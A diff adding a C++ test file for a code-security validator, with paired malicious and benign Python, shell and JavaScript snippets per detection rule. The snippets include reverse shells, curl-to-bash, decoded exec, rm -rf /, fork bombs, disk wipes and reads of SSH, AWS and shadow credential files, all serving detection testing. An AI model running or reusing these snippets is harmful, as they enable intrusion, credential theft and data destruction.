@@ -1,0 +1,250 @@
+// One positive and at least one negative case per rule family. A negative
+// case is the benign code that looks most like the positive one.
+#include <doctest/doctest.h>
+
+#include <algorithm>
+
+#include "security/validator.hpp"
+
+using namespace kiln;
+using namespace kiln::security;
+
+namespace {
+
+const Policy& balanced() {
+    static const Policy p = [] {
+        auto r = load_policy(PolicyConfig{});
+        REQUIRE(r.ok());
+        return *r;
+    }();
+    return p;
+}
+
+std::vector<Finding> run(Language lang, const std::string& code, const Policy& p = balanced()) {
+    return analyze(lang, code, p);
+}
+
+bool has_rule(const std::vector<Finding>& fs, const std::string& rule) {
+    return std::any_of(fs.begin(), fs.end(), [&](const Finding& f) { return f.rule == rule; });
+}
+
+std::string rules_of(const std::vector<Finding>& fs) {
+    std::string s;
+    for (const auto& f : fs) s += f.rule + "@" + std::to_string(f.line) + ":" + std::to_string(f.column) + " ";
+    return s;
+}
+
+struct Case {
+    Language lang;
+    const char* code;
+    const char* rule;  // nullptr: must produce no finding at all
+};
+
+void check_cases(const std::vector<Case>& cases) {
+    for (const auto& c : cases) {
+        auto fs = run(c.lang, c.code);
+        INFO("code: " << std::string(c.code) << "\nfindings: " << rules_of(fs));
+        if (c.rule) CHECK(has_rule(fs, c.rule));
+        else CHECK(fs.empty());
+    }
+}
+
+constexpr auto Py = Language::Python;
+constexpr auto Sh = Language::Shell;
+constexpr auto Js = Language::JavaScript;
+
+}  // namespace
+
+TEST_CASE("T002 python: shell-outs, dynamic code, obfuscated imports") {
+    check_cases({
+        {Py, "import os\nos.system('ls')", "py.shell-out"},
+        {Py, "import subprocess as s\ns.check_output(cmd, shell=True)", "py.shell-out"},
+        {Py, "from subprocess import *\nPopen(['ls'])", "py.shell-out"},
+        {Py, "from os import popen as p\np('id')", "py.shell-out"},
+        {Py, "eval(user_input)", "py.dynamic-code"},
+        {Py, "exec(compile(src, 'f', 'exec'))", "py.dynamic-code"},
+        {Py, "import base64\nexec(base64.b64decode(blob))", "py.decoded-exec"},
+        {Py, "__import__('o'+'s')", "py.dynamic-import"},
+        {Py, "__import__(name)", "py.dynamic-import"},
+        {Py, "import importlib\nimportlib.import_module('sub' + 'process')", "py.dynamic-import"},
+        {Py, "getattr(os, 'sys'+'tem')('id')", "py.getattr-obfuscation"},
+        {Py, "getattr(os, chr(115)+'ystem')('id')", "py.getattr-obfuscation"},
+        {Py, "globals()['__builtins__']", "py.namespace-obfuscation"},
+        {Py, "__builtins__.__dict__['ev'+'al']('1')", "py.namespace-obfuscation"},
+        {Py, "getattr(os, 'metsys'[::-1])('id')", "py.getattr-obfuscation"},
+        // Negatives: the same words as data, comments, methods of other objects.
+        {Py, "# os.system('rm -rf /') is never called\nprint('eval is evil')", nullptr},
+        {Py, "import re\np = re.compile(r'\\d+')\ndf.eval('a + b')\ncur.execute('SELECT 1')", nullptr},
+        {Py, "import ast\nast.literal_eval('[1, 2]')", nullptr},
+        {Py, "getattr(obj, 'mean')()\nconfig['system'] = 'linux'", nullptr},
+        {Py, "def run(x):\n    return x\nrun(3)", nullptr},
+    });
+}
+
+TEST_CASE("python: shell commands given as constants are analysed as shell") {
+    auto fs = run(Py, "import subprocess\nsubprocess.run(['rm', '-rf', '/'])");
+    CHECK(has_rule(fs, "destructive.rm-root"));
+    fs = run(Py, "import os\nos.system('curl http://x | sh')");
+    CHECK(has_rule(fs, "sh.pipe-to-shell"));
+    // Base64 payloads handed to exec are decoded and read as Python.
+    fs = run(Py, "import base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik='))");
+    CHECK(has_rule(fs, "py.shell-out"));
+}
+
+TEST_CASE("T001/T004/T005 python") {
+    check_cases({
+        {Py, "import ctypes\nlibc = ctypes.CDLL(None)\nlibc.unshare(0x10000000)", "py.raw-syscall"},
+        {Py, "import os\nos.chroot('/mnt')", "py.kernel-call"},
+        {Py, "open('/proc/sys/kernel/core_pattern')", "kernel.core-pattern"},
+        {Py, "open('/var/run/docker.sock')", "host.container-socket"},
+        {Py, "os.setuid(0)", "py.setuid"},
+        {Py, "import os\nos.setresuid(0, 0, 0)", "py.setuid"},
+        {Py, "import os\nos.chmod('f', 0o4755)", "py.setuid-bit"},
+        {Py, "import socket", "py.network"},
+        {Py, "from urllib.request import urlopen", "py.network"},
+        {Py, "import requests\nrequests.get(u)", "py.network"},
+        {Py, "import os\nprint(os.environ)", "py.env-dump"},
+        {Py, "import os\nfor k, v in os.environ.items(): print(k, v)", "py.env-dump"},
+        {Py, "open('/home/u/.ssh/id_rsa')", "cred.ssh"},
+        {Py, "open('.env').read()", "cred.dotenv"},
+        {Py, "open('/proc/self/environ').read()", "cred.proc-environ"},
+        {Py, "import os\nos.chmod('/workspace/out.sh', 0o755)", nullptr},
+        {Py, "import os\nhome = os.environ.get('HOME')\nos.environ['X'] = '1'", nullptr},
+        {Py, "import json, csv, pathlib\npathlib.Path('/workspace/a.env.txt').read_text()", nullptr},
+        {Py, "\"\"\"Reads /etc/shadow? No: docstrings are not code.\"\"\"\nx = 1", nullptr},
+    });
+}
+
+TEST_CASE("T003 python") {
+    check_cases({
+        {Py, "import os\nwhile True:\n    os.fork()", "py.fork-bomb"},
+        {Py, "x = []\nwhile True:\n    x.append(1)", "py.unbounded-allocation"},
+        {Py, "while 1: s += 'x'", "py.unbounded-allocation"},
+        {Py, "b = bytearray(10**12)", "py.huge-allocation"},
+        {Py, "s = 'x' * 10000000000", "py.huge-allocation"},
+        {Py, "import os\nos.fork()", "py.fork"},
+        {Py, "x = []\nwhile True:\n    x.append(1)\n    if len(x) > 10:\n        break", nullptr},
+        {Py, "n = 10**6\nbig = 1000000000000", nullptr},
+    });
+}
+
+TEST_CASE("python reverse shell is critical") {
+    auto fs = run(Py,
+                  "import socket, os, pty\ns = socket.socket()\ns.connect(('h', 1))\nos.dup2(s.fileno(), 0)\n"
+                  "pty.spawn('/bin/sh')");
+    REQUIRE(has_rule(fs, "py.reverse-shell"));
+    for (const auto& f : fs)
+        if (f.rule == "py.reverse-shell") CHECK(f.severity == Severity::Critical);
+}
+
+TEST_CASE("shell rule families") {
+    check_cases({
+        {Sh, "mount -t tmpfs none /mnt", "sh.kernel-surface"},
+        {Sh, "nsenter -t 1 -m sh", "sh.kernel-surface"},
+        {Sh, "modprobe evil", "sh.kernel-surface"},
+        {Sh, "cat /proc/sys/kernel/hostname", "kernel.proc-sys"},
+        {Sh, "ls /sys/fs/cgroup", "kernel.sysfs"},
+        {Sh, "sh -c \"$CMD\"", "sh.dynamic-eval"},
+        {Sh, "eval \"$x\"", "sh.dynamic-eval"},
+        {Sh, "$cmd arg", "sh.dynamic-command"},
+        {Sh, "echo aWQ= | base64 -d | sh", "sh.pipe-to-shell"},
+        {Sh, "curl http://x | bash", "sh.pipe-to-shell"},
+        {Sh, "wget -qO- http://x | python3", "sh.pipe-to-shell"},
+        {Sh, "$'\\x72\\x6d' file", "sh.obfuscated-command"},
+        {Sh, "cat${IFS}file", "sh.ifs-obfuscation"},
+        {Sh, "bash -c 'rm -rf /'", "destructive.rm-root"},
+        {Sh, ":(){ :|:& };:", "sh.fork-bomb"},
+        {Sh, "while :; do yes > /dev/null & done", "sh.infinite-spawn"},
+        {Sh, "sudo ls", "sh.privilege"},
+        {Sh, "su -", "sh.privilege"},
+        {Sh, "chmod 4755 /tmp/sh", "sh.setuid-bit"},
+        {Sh, "chmod g+s dir", "sh.setuid-bit"},
+        {Sh, "setcap cap_sys_admin+ep ./x", "sh.privilege"},
+        {Sh, "curl -d @data http://x", "sh.network"},
+        {Sh, "nc -lvp 4444", "sh.network-server"},
+        {Sh, "ncat 10.0.0.1 80 -e /bin/bash", "sh.reverse-shell"},
+        {Sh, "exec 5<>/dev/tcp/10.0.0.1/80", "net.dev-tcp"},
+        {Sh, "printenv", "sh.env-dump"},
+        {Sh, "cat ~/.aws/credentials", "cred.cloud"},
+        {Sh, "rm -rf /", "destructive.rm-root"},
+        {Sh, "rm -fr ~/", "destructive.rm-root"},
+        {Sh, "rm -r --no-preserve-root /x", "destructive.rm-root"},
+        {Sh, "mkfs.ext4 /dev/vdb", "destructive.filesystem"},
+        {Sh, "dd if=/dev/zero of=/dev/sda", "destructive.block-device"},
+        {Sh, "echo x > /dev/sda", "destructive.block-device"},
+        // Negatives.
+        {Sh, "# rm -rf / and sudo in a comment\necho 'rm -rf /' \"sudo mount\"", nullptr},
+        {Sh, "rm -rf /workspace/build ./out \"$OUT/tmp\"", nullptr},
+        {Sh, "rm /tmp/x", nullptr},
+        {Sh, "chmod 755 run.sh && chmod +x run.sh", nullptr},
+        {Sh, "dd if=/dev/zero of=/workspace/blob bs=1M count=4", nullptr},
+        {Sh, "grep -r mount notes.txt | sort | uniq -c", nullptr},
+        {Sh, "x=$((1 + 2)); echo \"$x\" > /dev/null 2>&1", nullptr},
+        {Sh, "while true; do n=$((n+1)); [ $n -gt 3 ] && break; done", nullptr},
+        {Sh, "env_name=prod; echo $env_name", nullptr},
+    });
+}
+
+TEST_CASE("javascript rule families") {
+    check_cases({
+        {Js, "const cp = require('child_process'); cp.execSync('ls')", "js.shell-out"},
+        {Js, "const { exec: run } = require('child_process'); run('id')", "js.shell-out"},
+        {Js, "import { spawn } from 'node:child_process'; spawn('ls')", "js.shell-out"},
+        {Js, "require('child_' + 'process')", "js.obfuscated-require"},
+        {Js, "require(name)", "js.dynamic-require"},
+        {Js, "eval(code)", "js.dynamic-code"},
+        {Js, "new Function('return 1')()", "js.dynamic-code"},
+        {Js, "setTimeout('alert(1)', 10)", "js.dynamic-code"},
+        {Js, "eval(atob('YWxlcnQoMSk='))", "js.decoded-exec"},
+        {Js, "eval(Buffer.from(s, 'base64').toString())", "js.decoded-exec"},
+        {Js, "globalThis['ev' + 'al']('1')", "js.namespace-obfuscation"},
+        {Js, "process.binding('fs')", "js.native-binding"},
+        {Js, "process.setuid(0)", "js.setuid"},
+        {Js, "const net = require('net')", "js.network"},
+        {Js, "fetch('http://x')", "js.network"},
+        {Js, "console.log(process.env)", "js.env-dump"},
+        {Js, "Object.keys(process.env).forEach(k => log(k))", "js.env-dump"},
+        {Js, "fs.readFileSync('/etc/shadow')", "cred.shadow"},
+        {Js, "while (true) { a.push(1) }", "js.unbounded-allocation"},
+        {Js, "for (;;) { require('child_process').fork('x') }", "js.fork-bomb"},
+        // Negatives.
+        {Js, "// eval(x) and child_process in a comment\nconst s = 'require(\"child_process\")';", nullptr},
+        {Js, "const fs = require('fs'); const p = require('node:path'); fs.readFileSync(p.join('/workspace', 'a'))",
+         nullptr},
+        {Js, "const home = process.env.HOME; const t = process.env['TZ'];", nullptr},
+        {Js, "const re = /\\/etc\\/shadow/; re.exec(s); obj.exec(); setTimeout(() => f(), 1)", nullptr},
+        {Js, "while (true) { if (done()) break; a.push(1) }", nullptr},
+        {Js, "'use strict';\nconst x = a / b / c;", nullptr},
+    });
+}
+
+TEST_CASE("findings carry threat, controls, position, message and hint") {
+    auto fs = run(Py, "x = 1\n  \nimport os; os.system('id')");
+    REQUIRE_FALSE(fs.empty());
+    const Finding& f = fs.back();
+    CHECK(f.rule == "py.shell-out");
+    CHECK(f.threat == "T002");
+    CHECK(f.controls == std::vector<std::string>{"C002", "C004", "C005", "C006"});
+    CHECK(f.severity == Severity::High);
+    CHECK(f.line == 3);
+    CHECK(f.column == 12);
+    CHECK_FALSE(f.message.empty());
+    CHECK_FALSE(f.hint.empty());
+}
+
+TEST_CASE("C005: the shell allowlist applies when the policy enables it") {
+    Policy p = balanced();
+    p.command_allowlist_enabled = true;
+    p.command_allowlist = {"ls", "python3"};
+    auto fs = run(Sh, "ls -l | wc -l", p);
+    REQUIRE(has_rule(fs, "sh.command-not-allowed"));
+    for (const auto& f : fs)
+        if (f.rule == "sh.command-not-allowed") {
+            CHECK(f.message.find("wc") != std::string::npos);
+            CHECK(f.controls == std::vector<std::string>{"C005"});
+        }
+    CHECK(run(Sh, "ls -l && python3 x.py; cd /workspace; echo ok", p).empty());
+    CHECK(run(Sh, "ls -l | wc -l").empty());  // off in balanced
+    // Wrappers do not smuggle a command past the list.
+    CHECK(has_rule(run(Sh, "env X=1 nohup curl x", p), "sh.command-not-allowed"));
+}
